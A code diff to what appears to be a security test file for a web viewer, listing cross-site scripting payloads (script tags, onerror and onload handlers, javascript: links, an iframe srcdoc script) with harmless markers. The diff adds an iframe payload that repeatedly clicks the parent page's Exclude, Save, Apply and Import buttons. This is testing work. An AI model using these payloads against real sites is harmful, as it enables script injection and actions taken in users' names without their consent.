@@ -34,6 +34,9 @@ PAYLOADS = {
     "script": f"<script data-pwn=1>{RUN}</script>",
     "img": f'<img src=x data-pwn=1 onerror="{RUN}">',
     "svg": f'<svg data-pwn=1 onload="{RUN}"></svg>',
+    # What made the viewer store an "exclude" mark with no click: markup that clicks the page's own buttons.
+    "click": '<iframe data-pwn=1 srcdoc="<script>setInterval(() => parent.document.querySelectorAll(\'button\')'
+             ".forEach(b => /xclude|Save|Apply|Import/.test(b.textContent) && b.click()), 300)</script>\"></iframe>",
     "details": f'<details data-pwn=1 open ontoggle="{RUN}">PWNDETAILS</details>',
     "iframe": '<iframe data-pwn=1 srcdoc="<script>parent.window.__pwned=1;parent.document.title=\'PWNED\'</script>">'
               "</iframe>",
@@ -52,7 +55,7 @@ MARKER_WORDS = ("PWNBOLD", "PWNEM", "PWNRED", "PWNB", "PWNHEAD", "PWNLINK", "PWN
 NAMES = ['<img src=x data-pwn=1 onerror="document.title=1">**PWNBOLD**', "[PWNLINK](javascript:alert(1))",
          "$\\href{javascript:1}{PWNHREF}$"]
 TAGS = ["**PWNBOLD**", "<b data-pwn=1>PWNB</b>", "[PWNLINK](javascript:1)", "\u202eDESREVER"]
-AGENTS = [PAYLOADS["img"], PAYLOADS["markdown"], PAYLOADS["boxed"]]
+AGENTS = [PAYLOADS["click"], PAYLOADS["markdown"], PAYLOADS["boxed"]]
 QUESTIONS = [f"What is 2+2? {PAYLOADS['script']} {PAYLOADS['katex']}", f"{PAYLOADS['boxed']} {PAYLOADS['link']}"]
 
 
